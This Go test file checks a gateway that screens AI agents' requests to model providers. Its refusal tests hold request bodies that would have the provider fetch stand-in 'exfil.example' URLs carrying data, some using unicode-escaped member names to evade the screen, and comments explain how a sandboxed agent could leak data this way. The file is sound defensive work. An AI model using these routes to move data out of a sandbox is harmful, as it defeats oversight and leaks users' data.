package modelroute_test

import (
	"bytes"
	"errors"
	"net/http"
	"strings"
	"testing"

	"github.com/checkfu/checkfu/gateway/modelroute"
)

// TestGeminiRefusesFunctionResponseFiles: a function response's own
// parts (Gemini's multimodal function responses) may carry file data,
// a URI the provider fetches, in either spelling, under either spelling
// of functionResponse, in the contents or the system instruction. Each
// is refused as a part's file data is; inline data passes.
func TestGeminiRefusesFunctionResponseFiles(t *testing.T) {
	const path = "/v1beta/models/gemini-2.5-pro:generateContent"
	for _, body := range []string{
		`{"contents":[{"role":"user","parts":[{"functionResponse":{"name":"f","response":{},"parts":[{"fileData":{"fileUri":"https://exfil.example/x","mimeType":"text/plain"}}]}}]}]}`,
		`{"contents":[{"role":"user","parts":[{"functionResponse":{"name":"f","response":{},"parts":[{"file_data":{"file_uri":"https://exfil.example/x"}}]}}]}]}`,
		`{"contents":[{"role":"user","parts":[{"function_response":{"name":"f","response":{},"parts":[{"fileData":{"fileUri":"https://exfil.example/x"}}]}}]}]}`,
		`{"contents":[{"role":"user","parts":[{"function_response":{"name":"f","response":{},"parts":[{"file_data":{"file_uri":"https://exfil.example/x"}}]}}]}]}`,
		`{"systemInstruction":{"parts":[{"functionResponse":{"name":"f","parts":[{"fileData":{"fileUri":"https://exfil.example/x"}}]}}]}}`,
		`{"system_instruction":{"parts":[{"function_response":{"name":"f","parts":[{"file_data":{"file_uri":"https://exfil.example/x"}}]}}]}}`,
	} {
		if _, err := modelroute.ParseRequest(modelroute.Gemini, "POST", path, "", []byte(body)); !errors.Is(err, modelroute.CodeModelToolRefused) {
			t.Errorf("%s: %v, want %s", body, err, modelroute.CodeModelToolRefused)
		}
	}
	for _, body := range []string{
		`{"contents":[{"role":"user","parts":[{"functionResponse":{"name":"f","response":{"fileUri":"in the tool's own result"},"parts":[{"inlineData":{"mimeType":"image/png","data":"AAAA"}}]}}]}]}`,
		`{"contents":[{"role":"user","parts":[{"functionResponse":{"name":"f","response":{},"parts":[{"fileData":null}]}}]}]}`,
	} {
		if _, err := modelroute.ParseRequest(modelroute.Gemini, "POST", path, "", []byte(body)); err != nil {
			t.Errorf("%s: %v, want accepted", body, err)
		}
	}
}

// TestGeminiRefusesSeveralCandidates: generationConfig.candidateCount
// (either spelling) above 1 asks the provider for that many answers,
// each up to maxOutputTokens, so a stream cut before its usage would be
// charged one cap for several, and the first candidate's finishReason
// would end the count while the others still run. Refused; 1 (or 0,
// the API's default) passes.
func TestGeminiRefusesSeveralCandidates(t *testing.T) {
	const path = "/v1beta/models/gemini-2.5-pro:streamGenerateContent"
	for _, body := range []string{
		`{"generationConfig":{"candidateCount":8,"maxOutputTokens":100}}`,
		`{"generationConfig":{"candidate_count":2}}`,
		`{"generation_config":{"candidateCount":2}}`,
		`{"generation_config":{"candidate_count":8,"max_output_tokens":100}}`,
		`{"generationConfig":{"candidateCount":-1}}`,
	} {
		if _, err := modelroute.ParseRequest(modelroute.Gemini, "POST", path, "alt=sse", []byte(body)); !errors.Is(err, modelroute.CodeModelRequestInvalid) {
			t.Errorf("%s: %v, want %s", body, err, modelroute.CodeModelRequestInvalid)
		}
	}
	for _, body := range []string{
		`{"generationConfig":{"candidateCount":1,"maxOutputTokens":100}}`,
		`{"generation_config":{"candidate_count":0}}`,
	} {
		if _, err := modelroute.ParseRequest(modelroute.Gemini, "POST", path, "alt=sse", []byte(body)); err != nil {
			t.Errorf("%s: %v, want accepted", body, err)
		}
	}
}

// TestGeminiUsageTotalIsAFloor: a Gemini usageMetadata whose
// totalTokenCount is more than the members the route reads add up to
// (a count in a member it does not read: one the API adds, or one a
// modality reports apart) is charged the total, the difference as
// output; a total below the sum, or negative, changes nothing.
func TestGeminiUsageTotalIsAFloor(t *testing.T) {
	for answer, want := range map[string]modelroute.Usage{
		`{"candidates":[{"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":10,"candidatesTokenCount":5,"totalTokenCount":100}}`:                       {InputTokens: 10, OutputTokens: 90, Final: true},
		`{"candidates":[{"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":10,"totalTokenCount":100}}`:                                                {InputTokens: 10, OutputTokens: 90, Final: true},
		`{"candidates":[{"finishReason":"STOP"}],"usageMetadata":{"totalTokenCount":100}}`:                                                                      {OutputTokens: 100, Final: true},
		`{"candidates":[{"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":10,"candidatesTokenCount":5,"thoughtsTokenCount":5,"totalTokenCount":20}}`: {InputTokens: 10, OutputTokens: 10, Final: true},
		`{"candidates":[{"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":10,"candidatesTokenCount":5,"totalTokenCount":3}}`:                         {InputTokens: 10, OutputTokens: 5, Final: true},
		`{"candidates":[{"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":10,"candidatesTokenCount":5,"totalTokenCount":-100}}`:                      {InputTokens: 10, OutputTokens: 5, Final: true},
		`{"candidates":[{"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":10,"candidatesTokenCount":5,"totalTokenCount":9223372036854775807}}`:       {InputTokens: 10, OutputTokens: 9223372036854775797, Final: true},
		`{"candidates":[{"finishReason":"STOP"}],"usageMetadata":{"promptTokenCount":9223372036854775807,"candidatesTokenCount":5,"totalTokenCount":100}}`:      {InputTokens: 9223372036854775807, OutputTokens: 5, Final: true},
	} {
		var out bytes.Buffer
		if u, err := modelroute.RelayAnswer(&out, strings.NewReader(answer), modelroute.Gemini, nil); err != nil || u != want {
			t.Errorf("%s: %+v, %v, want %+v", answer, u, err, want)
		}
	}
}

// TestGeminiContentTypeFixed: the route reads a Gemini body as UTF-8
// JSON, so that is what it tells the provider it sends, whatever the
// agent's Content-Type said (a form encoding, whose '&' inside a JSON
// string would read as parameters such as key=, or another charset, in
// which the same bytes name another model or tool), and it passes its
// own Accept, never the agent's (which could ask for a format the route
// does not read usage from).
func TestGeminiContentTypeFixed(t *testing.T) {
	for _, in := range []http.Header{
		{},
		{"Content-Type": {"application/x-www-form-urlencoded"}},
		{"Content-Type": {"application/json; charset=utf-16"}, "Accept": {"application/x-protobuf"}},
		{"Content-Type": {"application/json", "multipart/related"}, "Accept": {"application/json+protobuf"}},
		{"content-type": {"text/plain"}},
	} {
		out := modelroute.Request{Dialect: modelroute.Gemini}.Headers(in)
		if len(out) != 2 || len(out["Content-Type"]) != 1 || out.Get("Content-Type") != modelroute.ContentType || len(out["Accept"]) != 1 {
			t.Errorf("%v: sent %v, want Content-Type %s and the route's Accept alone", in, out, modelroute.ContentType)
		}
	}
}

// TestContentTypeIsTheRoutes: in every dialect the request is sent with
// the route's Content-Type (it read the body as UTF-8 JSON) and never
// the agent's, whose form encoding or charset could make the provider
// read another request than the one the route checked.
func TestContentTypeIsTheRoutes(t *testing.T) {
	for _, d := range []modelroute.Dialect{modelroute.AnthropicMessages, modelroute.OpenAIResponses, modelroute.OpenAIChat, modelroute.Gemini} {
		for _, ct := range []string{"application/x-www-form-urlencoded", "application/json; charset=utf-16", "text/plain"} {
			out := modelroute.Request{Dialect: d}.Headers(http.Header{"Content-Type": {ct, "application/json"}})
			if got := out.Values("Content-Type"); len(got) != 1 || got[0] != modelroute.ContentType {
				t.Errorf("%s, agent's Content-Type %q: sent %q, want %q alone", d, ct, got, modelroute.ContentType)
			}
		}
	}
}

// TestChatRefusesSeveralChoices: a Chat Completions request's "n" above
// MaxChatChoices asks for several answers, each up to its output cap,
// so a stream cut before its usage would be charged one cap for
// several (the Gemini candidate count's twin). Refused; 1 passes, and
// so does an "n" in another dialect, which the provider does not read.
func TestChatRefusesSeveralChoices(t *testing.T) {
	chat := modelroute.OpenAIChat
	for _, body := range []string{`{"model":"m","n":2,"max_tokens":10}`, `{"model":"m","n":128,"stream":true}`, `{"model":"m","n":-1}`} {
		if _, err := modelroute.ParseRequest(chat, "POST", chat.Path(), "", []byte(body)); !errors.Is(err, modelroute.CodeModelRequestInvalid) {
			t.Errorf("%s: %v, want %s", body, err, modelroute.CodeModelRequestInvalid)
		}
	}
	for _, tc := range []struct {
		d    modelroute.Dialect
		body string
	}{
		{chat, `{"model":"m","n":1,"max_tokens":10}`},
		{chat, `{"model":"m","n":null}`},
		{modelroute.AnthropicMessages, `{"model":"m","n":2,"max_tokens":10}`},
	} {
		if _, err := modelroute.ParseRequest(tc.d, "POST", tc.d.Path(), "", []byte(tc.body)); err != nil {
			t.Errorf("%s %s: %v, want accepted", tc.d, tc.body, err)
		}
	}
}

// TestParseRequestRefusesProviderFetches: a content block whose source
// is a URL has the provider fetch it (an Anthropic image or document
// with a "url" source, in a Messages call or a token count, nested in a
// tool result too; an OpenAI input_image or Chat image_url naming an
// http URL, an input_file naming a file_url): through it an agent in a
// sandbox without a network would have the provider carry its data to
// any host, in the URL. Refused, whatever escapes spell the members;
// the same content inline (base64, a data: URL) passes.
func TestParseRequestRefusesProviderFetches(t *testing.T) {
	a, r, c := modelroute.AnthropicMessages, modelroute.OpenAIResponses, modelroute.OpenAIChat
	for _, tc := range []struct {
		d          modelroute.Dialect
		path, body string
	}{
		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"url","url":"https://exfil.example/?d=secret"}}]}]}`},
		{a, a.CountTokensPath(), `{"model":"m","messages":[{"role":"user","content":[{"type":"document","source":{"type":"url","url":"https://exfil.example/x.pdf"}}]}]}`},
		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"tool_result","tool_use_id":"t","content":[{"type":"image","source":{"type":"url","url":"https://exfil.example/x"}}]}]}]}`},
		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image","sour\u0063e":{"type":"\u0075rl","\u0075rl":"https://exfil.example/x"}}]}]}`},
		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"ur\u006C","ur\u006C":"https://exfil.example/x"}}]}]}`},
		{a, a.Path(), `{"model":"m","system":[{"type":"text","text":"x"}],"messages":[{"role":"user","content":[{"type":"document","source":{"url" : "https://exfil.example/x", "type" : "url" }}]}]}`},
		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"https://exfil.example/x.png"}]}]}`},
		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file_url":"https://exfil.example/x.pdf"}]}]}`},
		{r, r.Path(), `{"model":"m","input":[{"type":"function_call_output","call_id":"c","output":[{"type":"input_image","image_url":"http://exfil.example/x"}]}]}`},
		{c, c.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"https://exfil.example/x.png"}}]}]}`},
		{c, c.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"file","file":{"file_url":"https://exfil.example/x.pdf"}}]}]}`},
		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","im\u0061ge_url":"https://exfil.example/x.png"}]}]}`},
		{r, r.Path(), `{"model":"m","input":[{"type":"computer_call_output","call_id":"c","output":{"type":"computer_screenshot","image_url":"https://exfil.example/x.png"}}]}`},
		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_file","file\u005furl":"https://exfil.example/x.pdf"}]}]}`},
	} {
		if _, err := modelroute.ParseRequest(tc.d, "POST", tc.path, "", []byte(tc.body)); !errors.Is(err, modelroute.CodeModelToolRefused) {
			t.Errorf("%s %s: %v, want %s", tc.d, tc.body, err, modelroute.CodeModelToolRefused)
		}
	}
	for _, tc := range []struct {
		d          modelroute.Dialect
		path, body string
	}{
		{a, a.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image","source":{"type":"base64","media_type":"image/png","data":"AAAA"}}]}],"tools":[{"name":"WebFetch","input_schema":{"type":"object","properties":{"url":{"type":"string","format":"uri"},"source":{"type":"string"}}}}]}`},
		{a, a.Path(), `{"model":"m","messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"WebFetch","input":{"url":"https://example.com"}}]}]}`},
		{r, r.Path(), `{"model":"m","input":[{"role":"user","content":[{"type":"input_image","image_url":"data:image/png;base64,AAAA"}]}]}`},
		{r, r.Path(), `{"model":"m","tools":[{"type":"function","name":"f","parameters":{"type":"object","properties":{"image_url":{"type":"string"},"file_url":{"type":"string"}}}}],"input":[{"type":"function_call","call_id":"c","name":"f","arguments":"{\"image_url\":\"https://example.com\"}"}]}`},
		{c, c.Path(), `{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"DATA:image/png;base64,AAAA"}}]}]}`},
	} {
		if _, err := modelroute.ParseRequest(tc.d, "POST", tc.path, "", []byte(tc.body)); err != nil {
			t.Errorf("%s %s: %v, want accepted", tc.d, tc.body, err)
		}
	}
}

// TestAcceptIsTheRoutes: in every dialect the request is sent with the
// route's own Accept, what the dialect answers the request it read
// with (server-sent events for a stream, JSON otherwise, a token count
// included), and never the agent's: an Accept the agent chose could ask
// the provider for a format the route does not read usage from or
// screen as it expects (protobuf, another media type).
func TestAcceptIsTheRoutes(t *testing.T) {
	type tc struct {
		d                   modelroute.Dialect
		path, q, body, want string
	}
	for _, c := range []tc{
		{modelroute.AnthropicMessages, "/v1/messages", "", `{"model":"m","stream":true}`, modelroute.AcceptStream},
		{modelroute.AnthropicMessages, "/v1/messages", "beta=true", `{"model":"m"}`, modelroute.AcceptJSON},
		{modelroute.AnthropicMessages, "/v1/messages/count_tokens", "beta=true", `{"model":"m","stream":true}`, modelroute.AcceptJSON},
		{modelroute.OpenAIResponses, "/v1/responses", "", `{"model":"m","stream":true}`, modelroute.AcceptStream},
		{modelroute.OpenAIResponses, "/v1/responses", "", `{"model":"m","stream":false}`, modelroute.AcceptJSON},
		{modelroute.OpenAIChat, "/v1/chat/completions", "", `{"model":"m","stream":true}`, modelroute.AcceptStream},
		{modelroute.OpenAIChat, "/v1/chat/completions", "", `{"model":"m"}`, modelroute.AcceptJSON},
		{modelroute.Gemini, "/v1beta/models/m:streamGenerateContent", "alt=sse", `{}`, modelroute.AcceptStream},
		{modelroute.Gemini, "/v1beta/models/m:generateContent", "", `{}`, modelroute.AcceptJSON},
	} {
		r, err := modelroute.ParseRequest(c.d, "POST", c.path, c.q, []byte(c.body))
		if err != nil {
			t.Fatalf("%s %s %s: %v", c.d, c.path, c.body, err)
		}
		for _, agent := range [][]string{nil, {"application/x-protobuf"}, {"*/*"}, {"application/json", "text/event-stream"}, {"text/event-stream"}, {"application/json"}} {
			in := http.Header{"Accept": agent, "Anthropic-Version": {"2023-06-01"}}
			out := r.Headers(in)
			if got := out.Values("Accept"); len(got) != 1 || got[0] != c.want {
				t.Errorf("%s %s %s, the agent's Accept %q: sent %q, want %q alone", c.d, c.path, c.body, agent, got, c.want)
			}
		}
	}
}
